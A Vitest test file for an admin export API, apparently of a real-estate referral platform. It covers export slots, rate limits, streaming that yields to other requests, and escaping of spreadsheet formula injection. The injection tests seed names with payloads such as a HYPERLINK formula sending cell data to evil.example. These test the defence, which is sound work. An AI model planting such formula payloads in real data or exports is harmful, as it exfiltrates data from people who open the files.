import { request as httpRequest, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, beforeEach, describe, expect, it, onTestFinished, vi } from 'vitest';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { adminExportMessages } from '@baobei/shared/messages/admin';
import { queryRows } from '../../db/client';
import { ROWS_PER_TURN } from '../../lib/excel-stream';
import { CONSOLE_ACCOUNTS, DEMO_ACCOUNTS } from '../../test/accounts';
import { createTestApp, HOSTS, type TestApp } from '../../test/test-app';

/**
 * Issue 26, item 5 and the CSV half of item 14 (docs/decisions/060): an export takes a slot (one
 * per operator, a few per instance and in all) that every way out frees, an operator's starts are
 * rate limited, other requests are answered while a big export streams, and a text a spreadsheet
 * would read as a formula is written with a leading '.
 */

const RATE = 4;
let t: TestApp;
let companyA = 0;
let operatorA = '';
let operatorB = '';
let platformAdmin = '';
let origin = '';
/** Reports of the bulk listing: enough for an export of 12 batches. */
const BULK = 6_000;
let bulkHouse = 0;
let formulaHouse = 0;

const consoleToken = (phone: string, host?: string) => t.consoleLogin(phone, { host });
const get = (url: string, token: string, host: string = HOSTS.localhost) => t.call({ method: 'GET', url, token, host });

/** A GET over a real connection (the streaming cases need one): resolves on the response's head, the body unread. */
async function open(path: string, token?: string): Promise<IncomingMessage> {
  const companyId = await t.companyIdOf(HOSTS.localhost);
  return new Promise((resolve, reject) => {
    const req = httpRequest(`${origin}${path}`, { headers: { host: HOSTS.localhost, companyid: String(companyId), ...(token ? { authorization: token } : {}) } }, resolve);
    req.on('error', reject);
    req.end();
  });
}
/** Reads a response to its end. */
async function readAll(res: IncomingMessage): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of res) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

async function readSheet(body: Buffer, name?: string): Promise<ExcelJS.CellValue[][]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = name ? book.getWorksheet(name) : book.worksheets[0];
  if (!sheet) throw new Error(`no sheet ${name}`);
  const rows: ExcelJS.CellValue[][] = [];
  sheet.eachRow((row) => void rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
  return rows;
}

const busy = (res: { statusCode: number; json(): { msg: string } }) => {
  expect(res.statusCode).toBe(429);
  expect(res.json().msg).toBe('导出任务进行中，请稍后');
};

beforeAll(async () => {
  t = await createTestApp({ config: { EXPORT_RATE_PER_10_MIN: String(RATE) } });
  await t.app.listen({ port: 0, host: '127.0.0.1' });
  origin = `http://127.0.0.1:${(t.app.server.address() as AddressInfo).port}`;
  companyA = await t.companyIdOf(HOSTS.localhost);
  operatorA = await consoleToken(CONSOLE_ACCOUNTS.operator);
  platformAdmin = await consoleToken(CONSOLE_ACCOUNTS.platformAdmin);
  operatorB = await consoleToken(CONSOLE_ACCOUNTS.secondOperator, HOSTS.second);
  const copy = async (name: string) => {
    const [row] = await queryRows<{ id: number }>(
      t.database.db,
      sql`insert into house (company_id, city_id, name, rule_tel) select company_id, city_id, ${name}, 'FULL' from house where company_id = ${companyA} order by id limit 1 returning id`,
    );
    return row!.id;
  };
  bulkHouse = await copy('导出限流测试楼盘');
  // A listing whose name, typed by an operator, would be a formula in a CSV.
  formulaHouse = await copy('=HYPERLINK("http://evil.example/?x="&A1,"点我")');
  const insert = (houseId: number, names: readonly string[], start: number) =>
    t.database.db.execute(sql`
      insert into record (company_id, house_id, customer_name, customer_phone, customer_phone_masked, reporter_id, distributor_id, shop_manager_id,
        estimated_visit_time, protect_until, submission_id, created_at)
      select ${companyA}, ${houseId}, n.name, p.phone, left(p.phone, 3) || '****' || right(p.phone, 4), u.id, u.distributor_id, u.manager_id,
        now() + interval '1 day', now() + interval '7 days', 'limits-' || p.phone, now() - make_interval(secs => n.i)
      from unnest(${sql.raw(`array[${names.map((n) => `'${n.replaceAll("'", "''")}'`).join(',')}]::text[]`)}) with ordinality as n(name, i)
      cross join lateral (select '136' || lpad((${start} + n.i)::text, 8, '0') as phone) p
      join "user" u on u.company_id = ${companyA} and u.phone = ${DEMO_ACCOUNTS.broker}`);
  await t.database.db.execute(sql`
    insert into record (company_id, house_id, customer_name, customer_phone, customer_phone_masked, reporter_id, distributor_id, shop_manager_id,
      estimated_visit_time, protect_until, submission_id, created_at)
    select ${companyA}, ${bulkHouse}, '批量客户' || g, '135' || lpad(g::text, 8, '0'), '135****' || right(lpad(g::text, 8, '0'), 4), u.id, u.distributor_id, u.manager_id,
      now() + interval '1 day', now() + interval '7 days', 'bulk-' || g, now() - make_interval(secs => g)
    from generate_series(1, ${BULK}) g join "user" u on u.company_id = ${companyA} and u.phone = ${DEMO_ACCOUNTS.broker}`);
  await insert(formulaHouse, ['=HYPERLINK("http://evil.example","点我")', '+86 1380000', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', '＝1+1', '正常客户'], 0);
}, 180_000);

afterAll(async () => {
  await t?.close();
});

// Each case starts with the operators' windows empty; the rate limit case fills one.
beforeEach(async () => {
  await t.database.db.execute(sql`delete from rate_counter where key like 'export:%'`);
});

describe('one running export per operator (429 导出任务进行中，请稍后)', () => {
  it('refuses the same operator’s second export while the first streams, and takes the next once it has ended', async () => {
    const first = await open(`/api/admin/export/records?houseId=${bulkHouse}`, operatorA);
    expect(first.statusCode).toBe(200);
    expect(first.headers['x-export-rows']).toBe(String(BULK));
    // The first is streaming (its body not yet read): the same operator is refused, any export.
    busy(await get(`/api/admin/export/records?houseId=${formulaHouse}`, operatorA));
    busy(await get('/api/admin/export/staff', operatorA));
    // Another operator of the same company is not.
    const other = await get(`/api/admin/export/records?houseId=${formulaHouse}`, platformAdmin);
    expect(other.statusCode).toBe(200);
    // The first reads to its end, whole.
    const rows = await readSheet(await readAll(first));
    expect(rows).toHaveLength(BULK + 1);
    // Once it has ended (its last byte comes after its slot is freed), the next is taken at once.
    const next = await get(`/api/admin/export/records?houseId=${formulaHouse}`, operatorA);
    expect(next.statusCode).toBe(200);
  });

  it('frees the slot when the client disconnects mid-download', async () => {
    const first = await open(`/api/admin/export/records?houseId=${bulkHouse}`, operatorA);
    expect(first.statusCode).toBe(200);
    busy(await get('/api/admin/export/staff', operatorA));
    first.destroy();
    await vi.waitFor(async () => expect((await get('/api/admin/export/staff', operatorA)).statusCode).toBe(200), { timeout: 10_000, interval: 100 });
  });

  it('holds a few exports per instance: a third operator waits while two stream', async () => {
    const a = await open(`/api/admin/export/records?houseId=${bulkHouse}`, operatorA);
    const b = await open(`/api/admin/export/records?houseId=${bulkHouse}`, platformAdmin);
    expect([a.statusCode, b.statusCode]).toEqual([200, 200]);
    // EXPORT_RUNNING_PER_INSTANCE is 2 by default: company 127.0.0.1's operator is refused too.
    busy(await get('/api/admin/export/staff', operatorB, HOSTS.second));
    a.destroy();
    await readAll(b);
    await vi.waitFor(async () => expect((await get('/api/admin/export/staff', operatorB, HOSTS.second)).statusCode).toBe(200), { timeout: 10_000, interval: 100 });
  });
});

describe('the rate limit of an operator’s exports', () => {
  it(`answers ${RATE} exports in the window, then 429 导出过于频繁，请稍后再试; another operator is not held`, async () => {
    for (let i = 0; i < RATE; i++) expect((await get('/api/admin/export/staff?keyword=nobody', operatorA)).statusCode, `export ${i + 1}`).toBe(200);
    const refused = await get('/api/admin/export/staff?keyword=nobody', operatorA);
    expect(refused.statusCode).toBe(429);
    expect(refused.json().msg).toBe(adminExportMessages.tooFrequent);
    expect(refused.json().msg).toBe('导出过于频繁，请稍后再试');
    // The refusal freed its slot: the operator is refused by the window, not by a held export.
    expect((await get('/api/admin/export/staff?keyword=nobody', operatorA)).json().msg).toBe(adminExportMessages.tooFrequent);
    expect((await get('/api/admin/export/staff?keyword=nobody', platformAdmin)).statusCode).toBe(200);
    // Refused starts (a running export) are not counted.
    await t.database.db.execute(sql`delete from rate_counter where key like 'export:%'`);
    const first = await open(`/api/admin/export/records?houseId=${bulkHouse}`, operatorA);
    for (let i = 0; i < RATE + 2; i++) busy(await get('/api/admin/export/staff', operatorA));
    await readAll(first);
    expect((await get('/api/admin/export/staff?keyword=nobody', operatorA)).statusCode).toBe(200);
  });
});

describe('a big export yields to other requests', () => {
  it('answers a request issued mid-export before the export ends, writing at most one slice of rows per turn of the event loop', async () => {
    // Rows the export writes between two turns of the event loop: exceljs's sheet writer counted,
    // a setImmediate ticker resetting the count at each turn (what any other request waits for).
    const writer = Object.getPrototypeOf(new ExcelJS.stream.xlsx.WorkbookWriter({ stream: new PassThrough() }).addWorksheet('probe')) as {
      addRow(this: unknown, ...args: unknown[]): unknown;
    };
    const addRow = writer.addRow;
    let sinceTurn = 0;
    let worst = 0;
    let ticking = true;
    const tick = () => {
      worst = Math.max(worst, sinceTurn);
      sinceTurn = 0;
      if (ticking) setImmediate(tick);
    };
    writer.addRow = function (...args: unknown[]) {
      sinceTurn++;
      return addRow.apply(this, args);
    };
    onTestFinished(() => {
      writer.addRow = addRow;
      ticking = false;
    });
    const events: string[] = [];
    const big = await open(`/api/admin/export/records?houseId=${bulkHouse}`, operatorA);
    expect(big.statusCode).toBe(200);
    setImmediate(tick);
    let bytes = 0;
    let bytesAtHealth = -1;
    const health = new Promise<void>((resolve, reject) => {
      big.once('data', () => {
        events.push('export: first bytes');
        // Mid-export: a liveness probe and a console call that reads the database.
        Promise.all([
          open('/api/health').then(readAll),
          open('/api/admin/house/list?page=1&pageSize=20', operatorA).then(readAll),
        ]).then(([probe, info]) => {
          bytesAtHealth = bytes;
          events.push('health and info answered');
          expect(JSON.parse(probe.toString()).code).toBe(200);
          expect(JSON.parse(info.toString()).code).toBe(200);
          resolve();
        }, reject);
      });
    });
    big.on('data', (chunk: Buffer) => void (bytes += chunk.length));
    const body = readAll(big).then((file) => {
      events.push('export: ended');
      return file;
    });
    await health;
    const file = await body;
    expect(events).toEqual(['export: first bytes', 'health and info answered', 'export: ended']);
    // The export was still streaming when they were answered: most of the file came after.
    expect(bytesAtHealth).toBeLessThan(file.length / 2);
    expect(await readSheet(file)).toHaveLength(BULK + 1);
    // The export let the event loop run at least every ROWS_PER_TURN rows (the header row goes
    // with the first slice); it wrote 2,000 at a time before.
    expect(worst).toBeGreaterThan(0);
    expect(worst).toBeLessThanOrEqual(ROWS_PER_TURN + 1);
  });
});

describe('CSV injection (issue 26, item 14)', () => {
  it('writes a text that starts like a formula with a leading \', and leaves numbers and dates typed', async () => {
    const res = await get(`/api/admin/export/records?houseId=${formulaHouse}`, operatorA);
    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
    const rows = (await readSheet(res.rawPayload)).slice(1);
    const names = rows.map((r) => r[1]);
    expect(names).toEqual([
      `'=HYPERLINK("http://evil.example","点我")`,
      "'+86 1380000",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\tTAB",
      // The carriage return as the file's XML reads back (a parser makes it a line feed).
      "'\nCR",
      "'＝1+1",
      '正常客户',
    ]);
    // The listing's name, typed in the console, too.
    expect(rows.every((r) => r[3] === `'=HYPERLINK("http://evil.example/?x="&A1,"点我")`)).toBe(true);
    // The report number stays a number, the report time a date.
    expect(typeof rows[0]![0]).toBe('number');
    expect(rows[0]![8]).toBeInstanceOf(Date);
    // No cell of the file is a formula.
    expect(res.rawPayload.toString('latin1')).not.toContain('<f>');

    const stats = await get('/api/admin/export/statistics?dateType=0', operatorA);
    const houses = await readSheet(stats.rawPayload, '按楼盘');
    expect(houses.map((r) => r[0])).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"点我")`);
  });
});
